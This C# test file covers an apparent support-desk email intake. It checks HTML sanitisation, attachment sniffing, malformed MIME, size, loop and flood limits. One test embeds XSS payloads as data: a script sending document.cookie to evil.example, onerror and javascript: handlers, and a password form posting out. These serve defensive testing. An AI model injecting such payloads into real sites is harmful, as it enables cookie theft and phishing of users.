using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using Microsoft.EntityFrameworkCore;
using TrustDesk.Email;
using TrustDesk.Tests.Infrastructure;

namespace TrustDesk.Tests.Email;

/// <summary>What an attacker or a broken mailer sends: it is sanitised, flagged, refused or set aside, and never blocks the rest.</summary>
public sealed class BadInputTests(SqliteEmailApp app) : IClassFixture<SqliteEmailApp>
{
    private async Task<JsonElement> LastMessageAsync(string messageId)
    {
        var caseId = await app.CaseOfAsync(messageId);
        return (await app.GetCaseAsync(caseId)).GetProperty("messages").EnumerateArray().Last();
    }

    [Fact]
    public async Task HtmlWithScriptsHandlersJavascriptUrlsAndCssTricks_IsSanitised()
    {
        var id = Mail.NewId();
        var html = """
            <html><head><style>body { background: url(javascript:alert(1)) }</style><script>alert('head')</script></head>
            <body onload="steal()"><p>Hello <b>agent</b></p>
            <script>document.location='https://evil.example/?c='+document.cookie</script>
            <img src="x" onerror="alert(1)"><img src="https://tracker.example/pixel.gif">
            <a href="javascript:alert(1)">click</a> <a href="https://ok.example/">fine link</a>
            <div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;color:red">overlay</div>
            <div style="width: expression(alert(1))">expr</div>
            <iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="password"></form>
            <svg><script>alert(2)</script></svg><math><mtext><img src=x onerror=alert(3)></mtext></math>
            </body></html>
            """;
        await app.PostRawAsync(Mail.Multipart("html.attacker@example.com", id, "Sanitise me", $"Content-Type: text/html; charset=utf-8\r\n\r\n{html}"));

        var sanitised = (await LastMessageAsync(id)).Str("html");

        Assert.Contains("<b>agent</b>", sanitised, StringComparison.Ordinal);
        Assert.Contains("https://ok.example/", sanitised, StringComparison.Ordinal);
        foreach (var bad in new[] { "<script", "onload", "onerror", "javascript:", "position", "z-index", "expression", "<iframe", "<form", "<input", "<style", "document.cookie", " src=\"https://tracker" })
        {
            Assert.DoesNotContain(bad, sanitised, StringComparison.OrdinalIgnoreCase);
        }

        Assert.Contains("data-remote-src=\"https://tracker.example/pixel.gif\"", sanitised, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Attachments_AreCheckedByTheirBytes_NotTheirDeclaredType()
    {
        var id = Mail.NewId();
        var png = Convert.ToBase64String([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);
        var pdfPretendingPng = Convert.ToBase64String(Encoding.ASCII.GetBytes("%PDF-1.7\n1 0 obj\n"));
        var exePretendingPdf = Convert.ToBase64String([0x4D, 0x5A, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xFF, 0xFF]);
        await app.PostRawAsync(Mail.Multipart("files@example.com", id, "Evidence",
            "Content-Type: text/plain\r\n\r\nPhotos attached.",
            $"Content-Type: image/png; name=photo.png\r\nContent-Disposition: attachment; filename=photo.png\r\nContent-Transfer-Encoding: base64\r\n\r\n{png}",
            $"Content-Type: image/png; name=receipt.png\r\nContent-Disposition: attachment; filename=receipt.png\r\nContent-Transfer-Encoding: base64\r\n\r\n{pdfPretendingPng}",
            $"Content-Type: application/pdf; name=invoice.pdf\r\nContent-Disposition: attachment; filename=invoice.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n{exePretendingPdf}"));

        var files = (await LastMessageAsync(id)).GetProperty("attachments").EnumerateArray().ToDictionary(a => a.Str("fileName"));

        Assert.True(files["photo.png"].GetProperty("stored").GetBoolean());
        Assert.Equal("image/png", files["photo.png"].Str("detectedType"));
        Assert.Equal(JsonValueKind.Null, files["photo.png"].GetProperty("problem").ValueKind);
        Assert.True(files["receipt.png"].GetProperty("stored").GetBoolean());
        Assert.Equal("application/pdf", files["receipt.png"].Str("detectedType"));
        Assert.StartsWith("Type mismatch", files["receipt.png"].Str("problem"), StringComparison.Ordinal);
        Assert.False(files["invoice.pdf"].GetProperty("stored").GetBoolean());
        Assert.StartsWith("Refused", files["invoice.pdf"].Str("problem"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task UnknownCharsetAnd8BitHeaders_AreReadAsText()
    {
        var id = Mail.NewId();
        var raw = $"From: Jürgen Müller <juergen@example.de>\r\nTo: {EmailApp.Support}\r\nSubject: Bestellung nicht erhalten – ärgerlich\r\nMessage-ID: <{id}>\r\n" +
            "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=x-no-such-charset\r\nContent-Transfer-Encoding: 8bit\r\n\r\nMeine Bestellung ist nicht angekommen. Grüße\r\n";
        var content = new ByteArrayContent(Encoding.UTF8.GetBytes(raw));
        content.Headers.ContentType = new MediaTypeHeaderValue("message/rfc822");
        await (await app.Api.PostAsync("/api/v1/inbound/email", content, TestContext.Current.CancellationToken)).ExpectAsync(HttpStatusCode.Accepted);

        var caseId = await app.CaseOfAsync(id);
        var detail = await app.GetCaseAsync(caseId);

        Assert.Equal("Bestellung nicht erhalten – ärgerlich", detail.Str("title"));
        Assert.Contains("nicht angekommen", detail.GetProperty("messages")[0].Str("text"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task MalformedMime_IsSetAsideOrReadAsFarAsPossible_AndNeverBlocksTheNext()
    {
        var broken = Mail.NewId();
        await app.PostRawAsync($"From: broken@example.com\r\nTo: {EmailApp.Support}\r\nSubject: Broken\r\nMessage-ID: <{broken}>\r\nMIME-Version: 1.0\r\n" +
            "Content-Type: multipart/mixed; boundary=\"never-closed\"\r\nContent-Transfer-Encoding: base64\r\n\r\n--never-closed\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n%%%% not base64 ****\r\n\0\0\0");
        var next = Mail.NewId();
        await app.PostRawAsync(Mail.Text("after.broken@example.com", "After the broken one", "Fine.", next));

        var row = await app.WaitProcessedAsync(broken);
        await app.CaseOfAsync(next);

        Assert.Contains(row.State, new[] { InboundEmailStates.Processed, InboundEmailStates.SetAside });
    }

    [Fact]
    public async Task DuplicateAndMissingHeaders_AreHandled()
    {
        var id = Mail.NewId();
        var second = Mail.NewId();
        await app.PostRawAsync($"From: dupes@example.com\r\nTo: {EmailApp.Support}\r\nSubject: First subject\r\nSubject: Second subject\r\nMessage-ID: <{id}>\r\nMessage-ID: <{second}>\r\n\r\nNo date, no MIME-Version.\r\n");

        var caseId = await app.CaseOfAsync(id);

        Assert.Equal("First subject", (await app.GetCaseAsync(caseId)).Str("title"));
        Assert.Equal(0, await app.Factory.WithDbAsync(db => db.InboundEmails.CountAsync(e => e.MessageIdHeader == second)));
    }

    [Fact]
    public async Task DeeplyNestedMultiparts_AreCappedNotFollowedForever()
    {
        var id = Mail.NewId();
        var builder = new StringBuilder($"From: nest@example.com\r\nTo: {EmailApp.Support}\r\nSubject: Nested\r\nMessage-ID: <{id}>\r\nMIME-Version: 1.0\r\n");
        const int depth = 300;
        for (var i = 0; i < depth; i++)
        {
            builder.Append($"Content-Type: multipart/mixed; boundary=\"b{i}\"\r\n\r\n--b{i}\r\n");
        }

        builder.Append("Content-Type: text/plain\r\n\r\nThe bottom.\r\n");
        for (var i = depth - 1; i >= 0; i--)
        {
            builder.Append($"--b{i}--\r\n");
        }

        await app.PostRawAsync(builder.ToString());

        var row = await app.WaitProcessedAsync(id);
        Assert.Contains(row.State, new[] { InboundEmailStates.Processed, InboundEmailStates.SetAside });
    }

    [Theory]
    [InlineData("text/plain", "From: a@example.com\r\n\r\nhi", HttpStatusCode.UnsupportedMediaType, "Content-Type")]
    [InlineData("message/rfc822", "", HttpStatusCode.BadRequest, "body")]
    [InlineData("message/rfc822", "just some words without any header", HttpStatusCode.BadRequest, "body")]
    [InlineData("message/rfc822", "Subject: no sender\r\n\r\nhi", HttpStatusCode.BadRequest, "From")]
    [InlineData("message/rfc822", "From: not an address\r\n\r\nhi", HttpStatusCode.BadRequest, "From")]
    [InlineData("message/rfc822", "From: a@example.com\r\nFrom: b@example.com\r\n\r\nhi", HttpStatusCode.BadRequest, "From")]
    public async Task InboundEndpoint_NotAnEmail_ReturnsProblemNamingTheField(string contentType, string body, HttpStatusCode expected, string field)
    {
        var content = new ByteArrayContent(Encoding.UTF8.GetBytes(body));
        content.Headers.ContentType = new MediaTypeHeaderValue(contentType);

        var response = await app.Api.PostAsync("/api/v1/inbound/email", content, TestContext.Current.CancellationToken);

        await response.ExpectProblemAsync(expected, field);
    }

    [Fact]
    public async Task InboundEndpoint_WithoutEmailScope_Returns403()
    {
        var client = await app.Factory.CreateApiClientAsync("cases:read");
        var content = new ByteArrayContent(Encoding.UTF8.GetBytes(Mail.Text("a@example.com", "x", "y", Mail.NewId())));
        content.Headers.ContentType = new MediaTypeHeaderValue("message/rfc822");

        var response = await client.PostAsync("/api/v1/inbound/email", content, TestContext.Current.CancellationToken);

        await response.ExpectProblemAsync(HttpStatusCode.Forbidden);
    }

    [Fact]
    public async Task InboundEndpoint_Oversized_Returns413AndStoresNothing()
    {
        var id = Mail.NewId();

        await app.PostRawAsync(Mail.Text("big.http@example.com", "Big", new string('q', 400_000), id), HttpStatusCode.RequestEntityTooLarge);

        Assert.Equal(0, await app.Factory.WithDbAsync(db => db.InboundEmails.CountAsync(e => e.MessageIdHeader == id)));
    }

    [Fact]
    public async Task MailFromOurOwnAddress_IsALoop_AndSetAside()
    {
        var id = Mail.NewId();

        await app.PostRawAsync(Mail.Text(EmailApp.Support, "Re: something", "An echo of ourselves.", id));

        var row = await app.WaitProcessedAsync(id);
        Assert.Equal(("set_aside", "loop"), (row.State, row.Outcome));
    }

    [Fact]
    public async Task FloodFromOneSender_IsSetAsideAfterTheLimit()
    {
        var sender = $"{Mail.Unique("flood")}@example.com".ToLowerInvariant();
        var ids = Enumerable.Range(0, 7).Select(_ => Mail.NewId()).ToList();
        foreach (var id in ids)
        {
            await app.PostRawAsync(Mail.Text(sender, "Spam " + id, "Again and again.", id));
        }

        var rows = new List<InboundEmail>();
        foreach (var id in ids)
        {
            rows.Add(await app.WaitProcessedAsync(id));
        }

        Assert.Equal(5, rows.Count(r => r.State == InboundEmailStates.Processed));
        Assert.Equal(2, rows.Count(r => r.Outcome == "flood"));
    }

    [Fact]
    public async Task Sender_IsMatchedToThePlatformAccountWithTheirEmail()
    {
        var account = Mail.Unique("u");
        var address = $"{account}@buyers.example".ToLowerInvariant();
        (await app.Api.PutJsonAsync($"/api/v1/subjects/account/{account}", new { displayName = "cardflipper", identifiers = new[] { new { type = "email", value = address.ToUpperInvariant() } } }))
            .EnsureSuccessStatusCode();
        var id = Mail.NewId();

        await app.PostRawAsync(Mail.Text($"Card Flipper <{address}>", "Payout missing", "Where is my payout?", id));

        var detail = await app.GetCaseAsync(await app.CaseOfAsync(id));
        var subject = Assert.Single(detail.GetProperty("subjects").EnumerateArray());
        Assert.Equal(account, subject.Str("externalId"));
        Assert.Equal("reporter", subject.Str("role"));
    }

    [Fact]
    public async Task ReplyToRequesterTheRelayRefuses_IsMarkedFailedWithTheReason()
    {
        var id = Mail.NewId();
        await app.PostRawAsync(Mail.Text($"nobody@{SmtpSink.RejectedDomain}", "Refused later", "Reply to me.", id));
        var caseId = await app.CaseOfAsync(id);

        await (await app.Api.PostJsonAsync($"/api/v1/cases/{caseId}/messages", new { type = "reply", text = "Answer." })).ExpectAsync(HttpStatusCode.Created);

        var deadline = DateTime.UtcNow.AddSeconds(20);
        JsonElement reply;
        while ((reply = (await app.GetCaseAsync(caseId)).GetProperty("messages").EnumerateArray().Last()).Str("deliveryState") != "failed")
        {
            Assert.True(DateTime.UtcNow < deadline, "The refused reply was never marked failed.");
            await Task.Delay(100, TestContext.Current.CancellationToken);
        }

        Assert.Contains("550", reply.Str("deliveryError"), StringComparison.Ordinal);
    }
}
